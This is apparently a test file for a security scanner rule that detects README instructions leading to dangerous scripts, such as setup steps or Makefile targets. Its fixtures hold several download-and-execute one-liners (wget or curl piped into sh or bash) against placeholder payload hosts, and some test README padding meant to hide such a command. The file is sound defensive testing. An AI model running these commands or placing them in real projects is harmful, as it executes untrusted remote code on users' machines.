import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture, tempRepo } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

describeFixtures(rule, import.meta.url);

const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));

it('maps the script the README runs, and raises the instruction to what the script does', async () => {
  const report = await scanFixture(fixture('match/script-downloads'));
  const surface = report.executionMap.find(s => s.kind === 'readme-command' && s.command === 'bash scripts/setup.sh');
  assert.equal(surface?.trigger, 'readme');
  assert.equal(surface.entry, 'scripts/setup.sh');
  const install = report.executionMap.find(s => s.kind === 'readme-command' && s.command === 'npm install');
  assert.equal(install?.trigger, 'install');
  const [f] = findingsOf(report, 'autorun/readme-command');
  assert.equal(f?.severity, 'critical');
  assert.match(
    f.message,
    /^README\.md tells you to run `bash scripts\/setup\.sh` \(section "Getting started"\), which runs scripts\/setup\.sh/,
  );
  assert.ok(findingsOf(report, 'code/shell-script').some(x => x.severity === 'critical' && x.triggers?.includes('readme')));
  assert.equal(report.verdict, 'block');
});

it('a README that runs a Makefile target maps the target and what it runs', async () => {
  const dir = tempRepo({
    'README.md': '# App\n\n## Setup\n\n```\nmake setup\n```\n',
    Makefile: '.PHONY: setup\nsetup:\n\t./scripts/bootstrap.sh\n',
    'scripts/bootstrap.sh': '#!/bin/sh\nwget -qO- https://payload.example.invalid/a | sh\n',
  });
  try {
    const report = await scanFixture(dir);
    const surface = report.executionMap.find(s => s.kind === 'readme-command');
    assert.equal(surface?.command, 'make setup');
    assert.equal(surface.trigger, 'install');
    assert.equal(surface.entry, 'scripts/bootstrap.sh');
    assert.equal(report.verdict, 'block');
    assert.deepEqual(findingsOf(report, 'autorun/readme-command'), []);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

it('headings that are not instructions, and prose code, are not commands', async () => {
  const dir = tempRepo({
    'README.md': [
      '# Tool',
      '',
      '## API reference',
      '',
      '```bash',
      'curl -s https://payload.example.invalid/x | bash',
      '```',
      '',
      '## Install',
      '',
      '```js',
      "import tool from 'tool';",
      '```',
      '',
      'Call `tool.run(x)` or read `docs/guide.md`.',
    ].join('\n'),
  });
  try {
    const report = await scanFixture(dir);
    assert.deepEqual(findingsOf(report, 'autorun/readme-command'), []);
    assert.deepEqual(
      report.executionMap.filter(s => s.kind === 'readme-command'),
      [],
    );
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

it('a README of megabytes is read in part with a gap, quickly', async () => {
  const block = '## Setup\n\n```bash\nnpm install\n```\n\n';
  const dir = tempRepo({
    'README.md': `# Big\n\n${block.repeat(60_000)}${'`'.repeat(200_000)}\n## Run\n\n\`\`\`bash\ncurl -s https://late.example.invalid/x | sh\n\`\`\`\n`,
  });
  try {
    const t0 = Date.now();
    const report = await scanFixture(dir);
    assert.ok(Date.now() - t0 < 30_000);
    const gaps = report.errors.filter(e => e.file === 'README.md').map(e => `${e.kind ?? '-'} ${e.message}`);
    assert.deepEqual(gaps, [
      'truncated autorun/readme-command: the document was read in part: only the first and last 524288 characters were read (214543 lines in the middle were not)',
      'truncated autorun/readme-command: only the first 250 and the last 50 of its 1999 commands were mapped',
    ]);
    assert.ok(report.executionMap.filter(s => s.kind === 'readme-command').length <= 300);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

it('a command pushed to the end of a README behind megabytes of prose and commands is still read, at its line', async () => {
  const prose = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit.\n'.repeat(40_000);
  const filler = '## Install\n\n```bash\nnpm install\n```\n\n'.repeat(400);
  const dir = tempRepo({
    'README.md': `# Big\n\n${prose}${filler}## Setup\n\n\`\`\`bash\ncurl -s https://late.example.invalid/x | sh\n\`\`\`\n`,
  });
  try {
    const report = await scanFixture(dir);
    const [f] = findingsOf(report, 'autorun/readme-command', 'high');
    assert.equal(f?.severity, 'critical');
    assert.equal(f.location.line, 42_406);
    const gaps = findingsOf(report, 'scan/incomplete-analysis').map(x => `${x.severity} ${x.location.file}`);
    assert.deepEqual(gaps, ['high README.md']);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

it('reads a here-document as the input of its command: a script written then run, a program fed to python3', async () => {
  const written = await scanFixture(fixture('match/heredoc-setup-script'));
  assert.deepEqual(
    written.executionMap
      .filter(s => s.kind === 'readme-command')
      .map(s => s.location.line)
      .sort((x, y) => (x ?? 0) - (y ?? 0)),
    [8, 13, 14, 17],
    'the here-document lines are no commands of their own (17 is the inline `npm run dev`)',
  );
  const [f] = findingsOf(written, 'autorun/readme-command');
  assert.equal(f?.message, 'README.md tells you to run `bash setup.sh` (section "Getting started"), which pipes a download into bash.');
  const py = await scanFixture(fixture('match/python-heredoc'));
  const [g] = findingsOf(py, 'autorun/readme-command');
  assert.equal(
    g?.message,
    'README.md tells you to run `python3 - <<\'PY\'` (section "Setup"), whose Python program downloads code and runs it with `exec`.',
  );
  assert.equal(g.location.line, 12);
});
